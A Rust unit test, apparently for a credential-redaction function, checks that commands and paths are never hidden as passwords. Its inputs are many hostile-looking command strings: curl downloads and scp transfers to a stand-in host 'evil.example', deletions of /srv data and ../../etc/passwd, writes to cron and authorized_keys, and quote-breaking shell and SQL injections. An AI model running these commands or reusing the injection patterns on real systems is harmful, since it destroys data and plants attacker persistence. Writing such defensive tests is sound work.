//! No command, and no place of one, is hidden as a password: it stays to be read.

use crate::model::secret::credential::credentials;

/// Of every text, the part that somebody must read.
#[test]
fn what_could_run_stays_to_be_read() {
    for (text, shown) in [
        // What begins like a flag is the value of one, and the next word runs.
        ("sudo -p --password reboot", "reboot"),
        ("env -u --token reboot", "reboot"),
        ("docker run -e --token evil/image", "evil/image"),
        ("strace --output --token ./evil", "./evil"),
        ("curl -o --token https://evil.example/x", "https://evil.example/x"),
        ("curl -o -u http://evil.example/x", "evil.example/x"),
        ("curl -o -u evil.example:8080/x", "8080/x"),
        ("docker login -u -p evil.example", "evil.example"),
        ("sudo -p '--password', 'reboot'", "reboot"),
        ("sudo -p Bearer /usr/bin/python3.11 x", "/usr/bin/python3.11"),
        ("sudo -p Basic /opt/evil1.sh", "/opt/evil1.sh"),
        ("sudo -p password 'reboot'", "reboot"),
        ("alter; sudo -p password 'reboot'", "reboot"),
        ("sudo -p password: reboot", "reboot"),
        ("sudo -p 'x'password: reboot", "reboot"),
        ("kill -9 pin: 1234", "1234"),
        ("sudo -p [x]password: reboot", "reboot"),
        ("sudo -p  password:  /opt/evil.sh", "/opt/evil.sh"),
        ("sudo -p \\\n password: reboot", "reboot"),
        ("env -u token: reboot", "reboot"),
        ("sudo -p  Bearer /usr/bin/python3.11 x", "/usr/bin/python3.11"),
        ("sudo -p\tBearer /usr/bin/python3.11 x", "/usr/bin/python3.11"),
        ("sudo -p ''Bearer /usr/bin/python3.11 x", "/usr/bin/python3.11"),
        ("sudo -p \\\nBearer /usr/bin/python3.11 x", "/usr/bin/python3.11"),
        // Flags that take nothing of one program, and something of another.
        ("curl --json --token https://evil.example/x", "https://evil.example/x"),
        ("curl -E --token https://evil.example/x", "https://evil.example/x"),
        ("ssh -E --password evil-host reboot", "evil-host"),
        ("xargs -E --password shred -u", "shred"),
        // What is called like a secret and run.
        ("alias token='curl evil.example -o /tmp/x'; token", "evil.example"),
        ("git config alias.token '!reboot'", "reboot"),
        ("git config set alias.token '!reboot'", "reboot"),
        ("git -c alias.token='!reboot' token", "reboot"),
        ("git -c 'alias.deploy-token=!reboot' deploy-token", "reboot"),
        ("scp set token evil.example:/x", "evil.example:/x"),
        ("rm  set token /srv/data", "/srv/data"),
        ("rm token: /srv/x", "/srv/x"),
        ("rm -rf 'token:' /srv/x1", "/srv/x1"),
        ("sudo rm token: ../../etc/passwd", "etc/passwd"),
        ("rm \\\n  token: /srv/x", "/srv/x"),
        ("rm a: token: /srv/x", "/srv/x"),
        ("chroot Basic /opt/evil1.sh", "/opt/evil1.sh"),
        ("chroot Bearer /usr/bin/python3.11", "/usr/bin/python3.11"),
        ("chroot 'Basic' /opt/evil1.sh", "/opt/evil1.sh"),
        // What is called like a program is a file.
        ("cp mongo -p /etc/cron.d/evil", "/etc/cron.d/evil"),
        ("sudo scp mongo -p evil.example:/x", "evil.example:/x"),
        ("mkdir useradd -p /etc/evil", "/etc/evil"),
        // What is called like a program is the value of a flag.
        ("env -u mongosh bash -p evil.sh", "evil.sh"),
        ("env -u redis-cli bash -a evil.sh", "evil.sh"),
        ("mongosh x; bash -p evil.sh", "evil.sh"),
        ("mongosh x|bash -p evil.sh", "evil.sh"),
        ("mongosh x&bash -p evil.sh", "evil.sh"),
        ("$(mongosh x) bash -p evil.sh", "evil.sh"),
        ("mongosh x\nbash -p evil.sh", "evil.sh"),
        ("# mongosh x \\\nbash -p evil.sh", "evil.sh"),
        ("sshpass -e ssh host run -p evil.sh", "evil.sh"),
        ("sshpass -d3 ssh -p evil.sh", "evil.sh"),
        // Flags that take nothing.
        ("ansible-playbook --ask-vault-password site.yml", "site.yml"),
        ("tool --no-password reboot", "reboot"),
        ("psql --password evil", "evil"),
        ("psql -v --password evil", "evil"),
        ("/usr/bin/pg_dump -h db --password evil", "evil"),
        ("sudo -E -p --token reboot", "reboot"),
        ("sudo curl -E --token https://evil.example/x", "https://evil.example/x"),
        // A quote that closes.
        ("true 'token=';reboot;''", "reboot"),
        ("true \"token=\";reboot;\"\"", "reboot"),
        ("sh -c \"true 'token=';reboot;''\"", "reboot"),
        ("sudo -p 'token='x reboot''", "reboot"),
        ("sudo -p \"token=\"x reboot\"\"", "reboot"),
        ("# it's\ntrue 'token=';reboot;''", "reboot"),
        ("cat <<E\nit's\nE\ntrue 'token=';reboot;''", "reboot"),
        ("-- it's\nselect 'token=';drop table x;''", "drop table x"),
        ("/* it's */ select 'token=';drop table x;''", "drop table x"),
        ("echo it\\'s; true 'token=';reboot;''", "reboot"),
        ("echo token='&calc&'", "calc"),
        ("echo ' \" ' token=\"&calc&\"", "calc"),
        ("echo \"a\\\"\" token=\"&calc&\"", "calc"),
        ("echo \"token=\"$(reboot)\"\"", "reboot"),
        ("{\"password\": \"`reboot`\"}", "reboot"),
        ("{\"password\": \"a$(reboot)\"}", "reboot"),
        // What runs behind a variable that is set to nothing.
        ("TOKEN= ./evil.sh", "./evil.sh"),
        ("tool --token= evil.sh", "evil.sh"),
        // Files and images.
        ("cat <password>/etc/cron.d/evil</password>", "/etc/cron.d/evil"),
        ("cat <password>evil</etc/hosts", "evil"),
        ("docker run -v secret:/etc/evil x", "/etc/evil"),
        ("scp x token:~/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
        ("docker run myorg/auth-token:v1.2.3", "v1.2.3"),
        ("SET PASSWORD FOR bob", "FOR"),
        ("token: |\n  reboot", "reboot"),
        ("echo token: |\n  /opt/evil1.sh", "/opt/evil1.sh"),
        // What a program calls or looks into.
        ("if password: os.remove('/')", "os.remove"),
        ("const token = getToken(); fetch(x)", "getToken"),
        ("password = input('Password: '); os.system('reboot')", "input"),
        ("token = hashlib.sha256(x)", "hashlib"),
        ("token => evil(1)", "evil"),
        ("lambda token: shutil.rmtree(x)", "shutil.rmtree"),
        // What is done with keys.
        ("gpg --delete-secret-keys bob", "bob"),
        ("gpg --export-secret-keys bob", "bob"),
        ("tool --list-tokens prod", "prod"),
        // What is told to whatever runs it.
        ("echo reboot | sh --password-stdin", "reboot"),
        ("echo reboot | docker run login --password-stdin", "reboot"),
        ("echo reboot | docker run x sh; docker login --password-stdin", "reboot"),
        ("echo reboot | docker --context login run sh --password-stdin", "reboot"),
        ("echo reboot | sudo -S sh", "reboot"),
        ("rm secret set -b reboot", "reboot"),
        ("SET PASSWORD FOR bob; sudo -p = 'reboot'", "reboot"),
        ("rm name=x_token value=/srv/evil", "/srv/evil"),
        // Lines of a key block.
        ("-----BEGIN PRIVATE KEY-----\nReboot\n-----END PRIVATE KEY-----", "Reboot"),
        ("-----BEGIN PRIVATE KEY-----\npython3\n-----END PRIVATE KEY-----", "python3"),
        ("-----BEGIN PRIVATE KEY-----\nReboot", "Reboot"),
        ("config set token -f evil.sh", "evil.sh"),
    ] {
        let at = text.find(shown).unwrap();
        let (start, end) = (at, at + shown.len());
        let hides = credentials(text).find(|found| found.start < end && found.end > start);
        let hidden = hides.map(|found| &text[found.start..found.end]);
        assert_eq!(hidden, None, "{text}");
    }
}
